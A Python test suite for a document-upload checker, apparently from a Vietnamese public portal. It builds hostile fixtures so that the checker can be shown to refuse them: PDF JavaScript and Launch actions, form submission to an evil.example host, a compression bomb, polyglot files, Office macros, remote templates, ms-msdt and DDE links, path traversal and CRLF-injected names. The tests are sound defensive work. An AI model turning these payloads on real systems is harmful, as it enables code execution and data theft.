"""What an upload may be: only what its name says, opening nothing, running nothing, unpacking nothing."""

import io
import zipfile
import zlib

import pikepdf
import pytest
from PIL import Image

from dossiers.errors import Refusal
from dossiers.file_checks import check, file_name
from tests import world

TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{}</Types>'
RELS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
KINDS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def office(members: dict[str, str | bytes] | None = None, types: str = "") -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in {
            "[Content_Types].xml": TYPES.format(types),
            "word/document.xml": "<w/>",
            **(members or {}),
        }.items():
            archive.writestr(name, data)
    return content.getvalue()


def link(kind: str, target: str, mode: str = ' TargetMode="External"') -> dict:
    rel = f'<Relationship Id="r1" Type="{KINDS}/{kind}" Target="{target}"{mode}/>'
    return {"word/_rels/document.xml.rels": RELS.format(rel)}


def picture(form: str = "JPEG", **more) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (60, 40), "green").save(out, form, **more)
    return out.getvalue()


def pdf(change=lambda pdf: None, **save) -> bytes:
    """A PDF whose objects lie packed, as most programs write them."""
    made, out = pikepdf.new(), io.BytesIO()
    made.add_blank_page(page_size=(200, 300))
    change(made)
    made.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, **save)
    return out.getvalue()


def refused(content: bytes, name: str) -> str:
    with pytest.raises(Refusal) as refusal:
        check(content, name)
    assert refusal.value.field == "file" and refusal.value.message
    return refusal.value.code


# --- what is taken --------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("name", "content", "pages"),
    [
        ("a.pdf", world.PDF, 1), ("a.pdf", pdf(lambda p: p.add_blank_page()), 2), ("a.jpg", picture(), 1),
        ("a.png", picture("PNG"), 1), ("a.webp", picture("WEBP"), 1), ("a.docx", office(), 0), ("a.xlsx", office(), 0),
        ("a.docx", office(link("hyperlink", "https://hanoi.gov.vn/")), 0),
        ("a.docx", office(link("image", "media/a.png", "")), 0),
        ("a.xlsx", office({"xl/printerSettings/printerSettings1.bin": b"HP"}), 0),
        ("dien-thoai.jpg", picture() + b"\0\0\0\x18ftypmp42" + bytes(300), 1),  # a telephone's moving picture
    ],
)  # fmt: skip
def test_honest_files_are_taken(name, content, pages):
    assert check(content, name).pages == pages


def test_a_pdf_that_only_forbids_printing_is_taken():
    assert check(pdf(encryption=pikepdf.Encryption(owner="chu", user="")), "a.pdf").pages == 1


# --- PDFs -----------------------------------------------------------------------------------------------------------
def _opens_script(p):
    p.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def _named_script(p):
    action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.Stream(p, b"app.alert(1)"))
    p.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["x", action])))


def _launches(p):
    p.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")


def _page_script(p):
    p.pages[0].AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="x()"))


def _holds_file(p):
    p.attachments["x.exe"] = b"MZ"


def _form_of_xml(p):
    p.Root.AcroForm = pikepdf.Dictionary(XFA=pikepdf.Stream(p, b"<xdp/>"), Fields=pikepdf.Array([]))


def _sends_form(p):
    p.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://evil.example/")


@pytest.mark.parametrize(
    "change", [_opens_script, _named_script, _launches, _page_script, _holds_file, _form_of_xml, _sends_form]
)
def test_a_pdf_that_does_or_carries_anything_is_refused_though_it_is_packed(change):
    content = pdf(change)
    assert b"/JavaScript" not in content and b"/Launch" not in content  # no search of the bytes would find it
    assert refused(content, "a.pdf") == "active"


def test_a_name_spelled_by_codes_hides_nothing():
    hidden = world.PDF.replace(b"/Type/Catalog", b"/Type/Catalog/OpenAction<</S/J#61vaScript/J#53 (x)>>")
    assert refused(hidden, "a.pdf") == "active"


def test_a_pdf_with_a_password_is_refused_in_words_that_help():
    content = pdf(encryption=pikepdf.Encryption(owner="chu", user="mo"))
    with pytest.raises(Refusal, match="có mật khẩu"):
        check(content, "a.pdf")


@pytest.mark.parametrize("content", [b"%PDF-1.7\n" + bytes(500), b"%PDF-1.4\ntrailer<<>>\n%%EOF"])
def test_a_pdf_that_does_not_open_is_refused(content):
    assert refused(content, "a.pdf") == "damaged"


def _bomb(blocks: int) -> bytes:
    """A PDF whose catalogue lies in a stream that unpacks to so many times 16 MB."""
    packer = zlib.compressobj(9, wbits=-15)
    catalogue = packer.compress(b"1 0 <</Type/Catalog/Pages 2 0 R>>") + packer.flush(zlib.Z_FULL_FLUSH)
    blank = packer.compress(b" " * 2**24) + packer.flush(zlib.Z_FULL_FLUSH)
    packed = zlib.compress(b"\x78\xda" + catalogue + blank * blocks + packer.flush())
    parts = [
        b"%PDF-1.5\n", b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n",
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n",
        b"4 0 obj<</Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]/Length %d>>stream\n" % len(packed)
        + packed + b"\nendstream endobj\n",
    ]  # fmt: skip
    at = [sum(map(len, parts[:n])) for n in range(len(parts) + 1)]
    rows = [bytes([2, 0, 0, 4, 0]), *(bytes([1, *at[n].to_bytes(3, "big"), 0]) for n in (1, 2, 3, 4))]
    table = b"5 0 obj<</Type/XRef/Size 6/W[1 3 1]/Index[1 5]/Root 1 0 R/Length 25>>stream\n" + b"".join(rows)
    return b"".join(parts) + table + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF" % at[4]


def test_a_pdf_that_unpacks_without_end_ends_the_box_and_not_the_portal():
    assert check(_bomb(1), "a.pdf").pages == 1  # the same file, small enough
    content = _bomb(80)
    assert len(content) < 100_000 and refused(content, "a.pdf") == "damaged"


# --- two files in one -----------------------------------------------------------------------------------------------
@pytest.mark.parametrize("name", ["a.pdf", "a.jpg", "a.png"])
@pytest.mark.parametrize(
    "second",
    [
        office({"a.exe": b"MZ"}), b"Rar!\x1a\x07\x00", b"7z\xbc\xaf\x27\x1c", b"<script>alert(1)</script>",
        b"<!DOCTYPE  html><p>", b"<HTML>", b"<hta:application>", b"<?php system(1);", b"<svg onload=x>",
    ],
)  # fmt: skip
def test_a_second_format_in_the_same_bytes_is_refused(name, second):
    first = {"a.pdf": world.PDF, "a.jpg": picture(), "a.png": picture("PNG")}[name]
    assert refused(first + second, name) == "two_formats"


def test_a_page_in_front_of_a_pdf_is_refused():
    page = world.PDF.replace(b"%PDF-1.4\n", b"%PDF-1.4\n%<html><script>alert(1)</script>\n", 1)
    assert refused(page, "a.pdf") == "two_formats"
    assert refused(b"<html>" + world.PDF, "a.pdf") == "wrong_type"


def test_a_pdf_at_the_head_of_an_office_file_is_refused():
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        archive.writestr("a.pdf", world.PDF)
        archive.writestr("[Content_Types].xml", TYPES.format(""))
    assert refused(content.getvalue(), "a.docx") == "two_formats"


@pytest.mark.parametrize("name", ["anh.svg", "anh.png", "anh.jpg", "anh.webp"])
def test_svg_is_never_taken(name):
    assert refused(b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>', name) == "wrong_type"


# --- Office ---------------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "content",
    [
        office({"word/vbaProject.bin": b"x"}), office({"WORD/VBAPROJECT.BIN": b"x"}),
        office({"word\\vbaData.xml": b"x"}),
        office({"word/embeddings/oleObject1.bin": b"x"}), office({"word/embeddings/bang.xlsx": b"x"}),
        office({"word/activeX/activeX1.xml": b"x"}), office({"xl/macrosheets/sheet1.xml": b"x"}),
        office({"xl/externalLinks/externalLink1.xml": b"x"}), office({"word/khac.bin": b"x"}),
        office({"xl/printerSettings/vbaProject.bin": b"x"}),
        office(types='<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'),
        office(link("attachedTemplate", "https://evil.example/a.dotm")),
        office(link("oleObject", "file:///C:/a.exe")),
        office(link("image", "https://evil.example/a.png")),
        office(link("hyperlink", "file://evil/a")),
        office(link("hyperlink", "ms-msdt:/id PCWDiagnostic")),
        office(link("hyperlink", "\\\\evil\\a")),
        office(link("oleObject", "embedded", "")),
        office({"word/document.xml": "<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\cmd</w:instrText>"}),
    ],
)  # fmt: skip
def test_an_office_file_with_anything_active_is_refused(content):
    assert refused(content, "a.docx") == "active"


def _twice() -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        for name in ("[Content_Types].xml", "word/document.xml", "Word/Document.xml"):
            archive.writestr(name, TYPES.format(""))
    return content.getvalue()


@pytest.mark.parametrize(
    "content",
    [
        _twice(),
        office({"word/_rels/document.xml.rels": '<!DOCTYPE a [<!ENTITY e "x">]><a>&e;</a>'}),
        office({"word/_rels/document.xml.rels": '<!DOCTYPE a><a/>'.encode("utf-16")}),
        office({"word/_rels/document.xml.rels": '<?xml version="1.0" encoding="utf-7"?><a/>'}),
        office({"word/_rels/document.xml.rels": b"\xff\xff not text"}),
        office({"word/_rels/document.xml.rels": "<open>"}),
    ],
)  # fmt: skip
def test_an_office_file_that_readers_could_read_differently_is_refused(content):
    assert refused(content, "a.docx") == "wrong_type"


def test_an_office_file_with_a_password_is_refused_in_words_that_help():
    with pytest.raises(Refusal, match="mật khẩu"):
        check(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "a.docx")


# --- names ----------------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("Giấy khai sinh (bản 2).pdf", "Giấy khai sinh (bản 2).pdf"),
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\a\\b.pdf", "b.pdf"),
        ("gi\u202eayfdp.pdf", "giayfdp.pdf"),
        ("a\r\nSet-Cookie: x.pdf", "a Set-Cookie: x.pdf"),
        ("a\u061cb\u00ad\U000e0041c.pdf", "a b c.pdf"),
        ("\u2066.pdf", ".pdf"),
        ("\u200b", "tep"),
        ("x" * 300 + ".pdf", "x" * 146 + ".pdf"),
    ],
)
def test_a_name_carries_nothing_invisible(given, kept):
    assert file_name(given) == kept
